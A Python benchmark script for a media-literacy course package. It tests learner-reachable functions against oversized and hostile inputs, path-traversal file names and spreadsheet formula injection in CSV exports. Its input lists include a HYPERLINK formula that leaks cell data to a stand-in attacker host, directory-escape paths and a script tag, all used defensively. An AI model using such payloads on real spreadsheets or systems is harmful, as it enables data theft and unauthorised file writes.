"""How the course stands up to hostile input: every call a learner can reach fed up to 1 MB of trouble,
every way out of ``my_work/`` tried, and every export read as a spreadsheet would read it.

Run ``python benchmarks/robustness.py``: prints a table (inputs tried, the slowest in ms, paths refused,
cells neutralised) and exits 1 if a call raised something other than a plain-sentence error, took over
1 s, or a file landed outside the work folder. Learner files go to a temporary folder. The inputs are
shared with ``tests/test_hostile_input.py``.
"""
from __future__ import annotations

import csv
import os
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

MB = 1_000_000
#: 1 MB inputs, each aimed at a cost that once grew without bound (issue 15) or at a parser's worst case.
MEGABYTE_TEXT = {
    "dollars": "$5 " * (MB // 3),  # once 333,000 draft rows and 529 MB
    "pint power": "5 km*" + "9**" * (MB // 3) + "9",  # pint evaluated "5 km*9**9**8" for 76 s
    "unit letters": "5 " + "k" * MB,  # pint's unit-name search is quadratic: 16,000 letters took 1.8 s
    "digits": "9" * MB,
    "formula": '=HYPERLINK("http://evil.example/?leak="&B2,"x")' * (MB // 48),
    "quotes": "'" * MB,
    "sentences": "A. " * (MB // 3),
}
#: Short inputs that once took seconds or reached a traceback.
SHORT_TEXT = {"pint 9**9**7": "5 km*9**9**7", "pint 9**9**8": "5 km*9**9**8", "16,000 letters": "5 " + "k" * 16_000,
              "NUL": "5\0 km", "script": "<script>alert(1)</script>", "full-width": "５.５ km", "surrogate": "5 \ud800"}
#: Text a spreadsheet would run as a formula (OWASP's starting characters).
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]
#: Names that once wrote outside my_work/ (issue 15), and their relatives.
ESCAPES = ["../data/claims.csv", "../data/samples/harbour_briefing_claims.csv", "../lessons/evil.ipynb.csv", "~/x.csv",
           "../solutions/00_start_here.csv", "/tmp/medialit-escape.csv", "sub/../../x.csv"]
BOUND_MS = 1000


def learner_calls() -> dict:
    """Every call a learner reaches with text: each exercise's check, the readers, the widgets' setters, files."""
    import pandas as pd

    import medialit as ml
    from medialit import storage
    from medialit.checks import parse_number
    from medialit.clocks import read_clock
    from medialit.extract import extract_claims, extract_sentences
    from medialit.units import parse_quantity, rounding_interval
    from medialit.widgets.ledger_curator import LedgerCurator, choose_article
    from medialit.widgets.rounding_explorer import RoundingExplorer

    explorer, curator = RoundingExplorer(), LedgerCurator()
    calls = {f"ml.check('{exercise_id}')": (lambda text, e=exercise_id: ml.check(e, text)) for exercise_id in ml.list_exercises()}
    calls.update({
        "parse_number": parse_number, "parse_quantity": parse_quantity, "rounding_interval": rounding_interval,
        "read_clock": read_clock, "extract_claims": extract_claims, "extract_sentences": extract_sentences,
        "choose_article(pasted=)": lambda text: choose_article(pasted=text), "load_table": ml.load_table,
        "RoundingExplorer figure": lambda text: explorer.set_figure("first", text),
        "LedgerCurator speaker": lambda text: curator.edit(1, speaker=text),
        "LedgerCurator unit": lambda text: curator.edit(1, unit=text),
        "LedgerCurator export name": curator.export_csv,
        "save_csv + read_csv of a cell": lambda text: (storage.save_csv(pd.DataFrame({"text": [text]}), "cell.csv"),
                                                       storage.read_csv("cell.csv")),
    })
    return calls


def _unplanned(call, text) -> str | None:
    """Run ``call(text)``: None if it answered or refused in one plain sentence, else the kind of error it raised."""
    try:
        call(text)
    except (ValueError, OSError):  # AnswerError, ClockError, DataError, StorageError: one plain sentence
        return None
    except Exception as err:  # noqa: BLE001 - what is being counted
        return type(err).__name__
    return None


def bench_inputs() -> dict:
    """Every call on every 1 MB input (and the short ones): how many, which raised something unplanned, the slowest."""
    inputs, calls = {**MEGABYTE_TEXT, **SHORT_TEXT}, learner_calls()
    tried, unplanned, slowest = 0, [], (0.0, "", "")
    for call_name, call in calls.items():
        _unplanned(call, "5 km")  # answer keys and pint's registry are built once per kernel, not per input
        for input_name, text in inputs.items():
            started = time.perf_counter()
            error = _unplanned(call, text)
            took = (time.perf_counter() - started) * 1000
            if error:
                unplanned.append(f"{call_name} on {input_name}: {error}")
            tried += 1
            slowest = max(slowest, (took, call_name, input_name))
    return dict(tried=tried, calls=len(calls), inputs=len(inputs), unplanned=unplanned, slowest=slowest)


def bench_paths(work: Path) -> dict:
    """Every escape name, plus symlinks out of the folder, through each writer: how many were refused."""
    import pandas as pd

    from medialit import storage
    from medialit.widgets.ledger_curator import LedgerCurator

    outside = work.parent / "outside"
    outside.mkdir(exist_ok=True)
    work.mkdir(parents=True, exist_ok=True)
    for name, target in (("link.csv", outside / "victim.csv"), ("linked_folder", outside)):
        if not (work / name).is_symlink():
            (work / name).symlink_to(target)
    names = [*ESCAPES, "link.csv", "linked_folder/x.csv", str(outside / "x.csv")]
    curator = LedgerCurator()
    writers = {
        "save_csv": lambda name: storage.save_csv(pd.DataFrame({"a": [1]}), name),
        "atomic_write_text": lambda name: storage.atomic_write_text(name, "x"),
        "curator.export_csv": curator.export_csv,
    }

    def refused(write, name) -> bool:
        try:
            said = write(name)
        except storage.StorageError:
            return True
        return isinstance(said, str) and said.startswith("Problem: Files you save go in your work folder")

    tried = len(writers) * len(names)
    refusals = sum(refused(write, name) for write in writers.values() for name in names)
    escaped = [str(p) for p in outside.rglob("*.csv")] + [p for p in ("/tmp/medialit-escape.csv",) if os.path.exists(p)]
    return dict(tried=tried, refused=refusals, writers=len(writers), escaped=escaped)


def write_hostile_exports() -> list[Path]:
    """An answers export and a curated ledger (``formulas.csv``) full of formulas, in the work folder; their paths."""
    import medialit as ml
    from medialit import storage
    from medialit.widgets.ledger_curator import LedgerCurator, choose_article

    for formula in FORMULAS:
        ml.check("01.4", formula)
    ml.check("03.4", -2084)
    ml.check("03.6", FORMULAS[:3])
    ml.export_answers()
    article = choose_article(pasted=" ".join(f"{formula} said 40 km of road were closed." for formula in FORMULAS))
    curator = LedgerCurator(article, name="formulas")
    curator.edit(1, speaker="=1+1")  # row 1, as the curator numbers its rows
    curator.export_csv("formulas.csv")
    return sorted(path for path in storage.work_dir().glob("*.csv") if path.is_file() and not path.is_symlink())


def bench_cells() -> dict:
    """Cells of the hostile exports: neutralised, still starting like a formula (must be none), read back exactly."""
    from medialit import storage

    files = write_hostile_exports()
    neutralised = live = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        neutralised += sum(cell != storage.restore_cell(cell) for cell in cells)
        live += sum(cell[:1] in storage.FORMULA_STARTS for cell in cells)
    exact = storage.read_csv("formulas.csv")["speaker"].iloc[0] == "=1+1"
    return dict(files=len(files), neutralised=neutralised, live=live, exact=exact)


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp:
        os.environ["MEDIALIT_WORK_DIR"] = str(Path(tmp) / "my_work")
        inputs, paths, cells = bench_inputs(), bench_paths(Path(tmp) / "my_work"), bench_cells()
    took, call_name, input_name = inputs["slowest"]
    print("| Measure | Value | Target | Met |")
    print("|---|---|---|---|")
    rows = [
        (f"Hostile inputs tried ({inputs['calls']} learner-reachable calls x {inputs['inputs']} inputs, "
         f"{len(MEGABYTE_TEXT)} of them 1 MB)", f"{inputs['tried']:,}", "-", "-"),
        ("Answered with something other than a plain sentence", str(len(inputs["unplanned"])), "0", not inputs["unplanned"]),
        (f"Slowest hostile input ({call_name}, {input_name})", f"{took:,.0f} ms", f"< {BOUND_MS:,} ms", took < BOUND_MS),
        (f"Paths out of my_work/ refused ({paths['writers']} writers x {paths['tried'] // paths['writers']} names)",
         f"{paths['refused']} of {paths['tried']}", "all", paths["refused"] == paths["tried"] and not paths["escaped"]),
        (f"Formula-leading cells neutralised ({cells['files']} exported files)", str(cells["neutralised"]), "-", "-"),
        ("Cells a spreadsheet would run as formulas", str(cells["live"]), "0", cells["live"] == 0),
        ("A neutralised cell reads back exactly (storage.read_csv)", "yes" if cells["exact"] else "no", "yes", cells["exact"]),
    ]
    for measure, value, target, met in rows:
        print(f"| {measure} | {value} | {target} | {met if met == '-' else 'yes' if met else 'NO'} |")
    for problem in inputs["unplanned"] + paths["escaped"]:
        print(f"PROBLEM: {problem}")
    return 0 if all(met for *_, met in rows if met != "-") else 1


if __name__ == "__main__":
    sys.exit(main())
